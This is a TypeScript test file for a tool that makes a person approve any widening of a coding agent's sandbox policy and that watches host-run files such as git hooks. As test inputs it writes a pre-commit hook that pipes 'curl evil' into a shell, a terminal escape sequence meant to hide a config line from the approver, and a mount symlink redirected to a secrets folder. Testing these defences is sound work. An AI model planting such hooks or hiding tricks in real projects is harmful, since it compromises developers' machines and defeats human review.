import { describeAppliedAtOnce, describePending } from '../../src/policy/describe-pending.js';
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { hostRunChanges, HOST_RUN_PATHS, recordHostRunBaseline } from '../../src/policy/host-run-watch.js';
import { approvePolicy, reviewPolicy, settlePolicy } from '../../src/policy/review-policy.js';

let root: string;
let project: string;
let state: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'policy-review-'));
  project = join(root, 'project');
  state = join(root, 'state');
  mkdirSync(join(project, '.claude'), { recursive: true });
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const write = (path: string, text: string) => {
  mkdirSync(join(project, path, '..'), { recursive: true });
  writeFileSync(join(project, path), text);
};
const config = (text: string) => write('.claude/claude-tui.yaml', text);

describe('reviewPolicy', () => {
  it('runs a project that was never approved on the defaults, with its files waiting', async () => {
    config('firewall:\n  enabled: false\n');
    write('.claude/allowed-domains.txt', 'extra.example\n');
    const review = await reviewPolicy(project, state);
    expect(review.approvedAt).toBeNull();
    expect(review.approved.config).toEqual({});
    expect(review.approved.allowEntries).toEqual([]);
    expect(review.pending?.files.map((f) => [f.path, f.change])).toEqual([
      ['.claude/claude-tui.yaml', 'created'],
      ['.claude/allowed-domains.txt', 'created'],
    ]);
    expect(review.pending?.files[0]?.lines).toEqual(['+ firewall:', '+   enabled: false']);
    expect(review.pending?.widens.map((c) => c.text)).toEqual([
      'turns the firewall off',
      'allows extra.example',
    ]);
  });

  it('shows control characters in a changed file as marks, so a line cannot hide what follows it', async () => {
    // A comment that would return the cursor and erase the line it is on: the widening below it
    // would vanish from the terminal of the person approving.
    config('# harmless\x1b[1A\x1b[2K\r\nfirewall:\n  enabled: false\n');
    const review = await reviewPolicy(project, state);
    const lines = review.pending?.files[0]?.lines ?? [];
    expect(lines[0]).toBe('+ # harmless^[[1A^[[2K^M');
    // eslint-disable-next-line no-control-regex -- no control character may be left
    expect(lines.join('\n')).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
    expect(review.pending?.widens.map((c) => c.text)).toContain('turns the firewall off');
  });

  it('keeps running the approved copy after the files change, and shows the change as a diff', async () => {
    write('.claude/allowed-domains.txt', 'a.example\n');
    await settlePolicy(project, state, { approveAll: true });
    write('.claude/allowed-domains.txt', 'a.example\nb.example\n');
    const review = await reviewPolicy(project, state);
    expect(review.approved.allowEntries.map((e) => e.value)).toEqual(['a.example']);
    expect(review.pending?.files[0]?.lines).toEqual(['  a.example', '+ b.example']);
  });

  it('approves exactly the snapshot that was reviewed, not what the files say by then', async () => {
    write('.claude/allowed-domains.txt', 'reviewed.example\n');
    const review = await reviewPolicy(project, state);
    write('.claude/allowed-domains.txt', 'reviewed.example\nsneaked-in.example\n');
    await approvePolicy(state, review.pending!);
    const after = await reviewPolicy(project, state);
    expect(after.approved.allowEntries.map((e) => e.value)).toEqual(['reviewed.example']);
    expect(after.pending?.widens.map((c) => c.text)).toEqual(['allows sneaked-in.example']);
    const stored = join(state, 'approved-policy.json');
    expect(statSync(stored).mode & 0o777).toBe(0o600);
  });

  it('applies a change that only narrows at once, and leaves a widening one waiting', async () => {
    config('firewall:\n  hostPorts: [3000, 4000]\n');
    await settlePolicy(project, state, { approveAll: true });
    config('firewall:\n  hostPorts: [3000]\n');
    const narrowed = await settlePolicy(project, state);
    expect(narrowed.pending).toBeNull();
    expect(narrowed.appliedAtOnce.map((c) => c.text)).toEqual(['closes port 4000 on the host']);
    expect(narrowed.approved.config.firewall?.hostPorts).toEqual([3000]);

    config('firewall:\n  hostPorts: [3000, 22]\n');
    const widened = await settlePolicy(project, state);
    expect(widened.pending?.widens.map((c) => c.text)).toEqual(['opens port 22 on the host']);
    expect(widened.approved.config.firewall?.hostPorts).toEqual([3000]);

    // With --yes it is approved, and said as what it is: a widening the person said yes to.
    const approved = await settlePolicy(project, state, { approveAll: true });
    expect(approved.approvedByYes.map((c) => c.text)).toEqual(['opens port 22 on the host']);
    expect(approved.appliedAtOnce).toEqual([]);
    expect(describeAppliedAtOnce(approved)).toEqual([
      'approved with --yes (it widens): opens port 22 on the host',
    ]);
  });

  it('will not approve a file it refused to read, nor a bad line, and says which', async () => {
    writeFileSync(join(root, 'elsewhere.yaml'), 'firewall:\n  enabled: false\n');
    symlinkSync(join(root, 'elsewhere.yaml'), join(project, '.claude', 'claude-tui.yaml'));
    write('.claude/allowed-domains.txt', 'bad;name\n');
    const review = await reviewPolicy(project, state);
    expect(review.pending?.problems).toEqual([
      `.claude/claude-tui.yaml is a symbolic link out of the project (to ${join(root, 'elsewhere.yaml')})`,
      '.claude/allowed-domains.txt:1: "bad;name" has characters a domain name cannot have',
    ]);
    await expect(approvePolicy(state, review.pending!)).rejects.toThrow('cannot be approved as it is');
    await expect(settlePolicy(project, state, { approveAll: true })).rejects.toThrow('bad;name');
    expect(() => readFileSync(join(state, 'approved-policy.json'))).toThrow();
  });

  it('counts where a mount source leads and what a named CA file holds as part of the change', async () => {
    mkdirSync(join(root, 'data'));
    mkdirSync(join(root, 'secrets'));
    writeFileSync(join(project, 'ca.pem'), '-----BEGIN CERTIFICATE-----\nAAA\n-----END CERTIFICATE-----\n');
    symlinkSync(join(root, 'data'), join(project, 'data'));
    config('mounts:\n  - { source: data, target: /data }\nimage:\n  caCertificates: [ca.pem]\n');
    await settlePolicy(project, state, { approveAll: true });
    expect((await reviewPolicy(project, state)).pending).toBeNull();

    rmSync(join(project, 'data'));
    symlinkSync(join(root, 'secrets'), join(project, 'data'));
    writeFileSync(join(project, 'ca.pem'), '-----BEGIN CERTIFICATE-----\nBBB\n-----END CERTIFICATE-----\n');
    const review = await reviewPolicy(project, state);
    expect(review.approved.mounts).toEqual([{ source: join(root, 'data'), target: '/data', readOnly: true }]);
    expect(review.pending?.widens.map((c) => c.text)).toEqual([
      `mounts ${join(root, 'secrets')} at /data (read-only)`,
      `trusts a CA certificate from ${join(project, 'ca.pem')}`,
    ]);
    expect(review.pending?.files.map((f) => f.path)).toEqual([
      'ca.pem (a CA certificate the config names)',
      'data (a mount source the config names)',
    ]);
  });

  it('runs no bridge command the agent wrote in until a person approves it, and says what it would run', async () => {
    write('.claude/allowed-domains.txt', 'a.example\n');
    await settlePolicy(project, state, { approveAll: true });
    // The agent's proposal: php in the project's php service, as www-data, with a token of its choice.
    const bridge = [
      'version: "1"',
      'containers: {php: {service: php}}',
      'commands:',
      '  php: {container: php, exec: php, workdir: /var/www/html, user: www-data, env: [API_TOKEN]}',
      '',
    ].join('\n');
    write('.claude/bridge.yaml', bridge);
    for (const settled of [await settlePolicy(project, state), await reviewPolicy(project, state)]) {
      expect(settled.approved.bridge).toBeUndefined();
      expect(settled.pending?.widens.map((c) => c.text)).toEqual([
        'adds a command bridge into the compose project project',
        'adds the bridge container php → service php',
        'adds the bridge command php → service php, runs php in /var/www/html as www-data, passing API_TOKEN from the agent',
      ]);
    }
    const review = await reviewPolicy(project, state);
    const text = describePending(review.pending!, { projectDir: project, neverApproved: false });
    expect(text).toContain(
      '  ▲ adds the bridge command php → service php, runs php in /var/www/html as www-data, passing API_TOKEN from the agent',
    );
    expect(text).toContain(`Review and approve it with \`claude-tui approve ${project}\`.`);

    // A root user slipped in cannot be approved at all; the approved copy stays as it was.
    write('.claude/bridge.yaml', bridge.replace('user: www-data', 'user: root'));
    const refused = await reviewPolicy(project, state);
    expect(refused.pending?.problems).toEqual([
      `${join(project, '.claude/bridge.yaml')}:4:66: commands.php.user: a user other than root (not root, 0 or group 0): the bridge runs commands without root rights; name one such as www-data or 1000:1000`,
    ]);
    await expect(settlePolicy(project, state, { approveAll: true })).rejects.toThrow('cannot be approved');
    expect((await reviewPolicy(project, state)).approved.bridge).toBeUndefined();

    write('.claude/bridge.yaml', bridge);
    await approvePolicy(state, (await reviewPolicy(project, state)).pending!);
    const approved = await reviewPolicy(project, state);
    expect(approved.pending).toBeNull();
    expect(approved.approved.bridge?.commands.php).toEqual({
      container: 'php',
      exec: 'php',
      workdir: '/var/www/html',
      user: 'www-data',
      env: ['API_TOKEN'],
    });

    // Taking the command away again only narrows: it applies without asking.
    write('.claude/bridge.yaml', 'version: "1"\ncontainers: {php: {service: php}}\n');
    const narrowed = await settlePolicy(project, state);
    expect(narrowed.appliedAtOnce.map((c) => c.text)).toEqual(['removes the bridge command php']);
    expect(narrowed.approved.bridge?.commands).toEqual({});
  });

  it('still reads the approval of the allowlists made before every policy file was approved', async () => {
    mkdirSync(state, { recursive: true });
    writeFileSync(
      join(state, 'approved-allowlist.json'),
      JSON.stringify({
        files: [{ path: '.claude/allowed-domains.txt', text: 'old.example\n' }],
        approvedAt: 'then',
      }),
    );
    write('.claude/allowed-domains.txt', 'old.example\n');
    const review = await reviewPolicy(project, state);
    expect(review.pending).toBeNull();
    expect(review.approved.allowEntries.map((e) => e.value)).toEqual(['old.example']);
  });
});

describe('hostRunChanges', () => {
  it('reports nothing before a baseline, then what was created, modified and deleted', async () => {
    write('.git/hooks/pre-commit.sample', '#!/bin/sh\n');
    write('.git/config', '[core]\n');
    write('.vscode/settings.json', '{}\n');
    expect(await hostRunChanges(project, state, HOST_RUN_PATHS)).toBeUndefined();
    await recordHostRunBaseline(project, state, HOST_RUN_PATHS);
    expect(await hostRunChanges(project, state, HOST_RUN_PATHS)).toEqual([]);

    write('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n');
    write('.git/config', '[core]\n\thooksPath = .githooks\n');
    rmSync(join(project, '.vscode', 'settings.json'));
    write('.envrc', 'export X=1\n');
    expect(await hostRunChanges(project, state, HOST_RUN_PATHS)).toEqual([
      { path: '.envrc', change: 'created' },
      { path: '.git/config', change: 'modified' },
      { path: '.git/hooks/pre-commit', change: 'created' },
      { path: '.vscode/settings.json', change: 'deleted' },
    ]);
  });

  it('does not call a file rewritten with the same bytes a change, but does an exec bit gained', async () => {
    write('.husky/pre-push', 'npm test\n');
    await recordHostRunBaseline(project, state, HOST_RUN_PATHS);
    write('.husky/pre-push', 'npm test\n');
    expect(await hostRunChanges(project, state, HOST_RUN_PATHS)).toEqual([]);
    chmodSync(join(project, '.husky', 'pre-push'), 0o755);
    expect(await hostRunChanges(project, state, HOST_RUN_PATHS)).toEqual([
      { path: '.husky/pre-push', change: 'modified' },
    ]);
  });
});
